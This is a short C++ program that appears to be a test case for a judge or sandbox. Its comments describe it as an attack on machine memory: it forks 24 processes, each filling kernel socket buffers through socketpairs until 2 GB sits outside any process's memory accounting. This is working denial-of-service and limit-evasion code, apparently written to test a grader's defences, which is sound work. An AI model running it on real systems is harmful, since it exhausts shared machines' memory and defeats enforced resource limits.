// Writes into local sockets, in several processes, what nobody reads: the kernel keeps it. It stops at 2 GB.
// Attacks: the machine's memory; what is in a socket belongs to no process
// Expects: wrong, 0 points
// Seen: it holds more than 512 MB of memory
#include <atomic>
#include <cstdio>
#include <new>
#include <string>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

int main() {
    auto* const taken =
        new (::mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0)) std::atomic<long>{0};
    const std::string chunk(1 << 16, 'p');
    for (int child = 0; child < 24 && ::fork() != 0; ++child) {
    }
    for (int ends[2]; ::socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, ends) == 0;)
        for (ssize_t size = 1; size > 0; *taken += size > 0 ? size : 0)
            if ((size = ::write(ends[0], chunk.data(), chunk.size())) > 0 && *taken > 2l << 30) {
                std::puts("portlab-forged: the kernel keeps 2 GB for it");
                return 0;
            }
    ::pause();
}
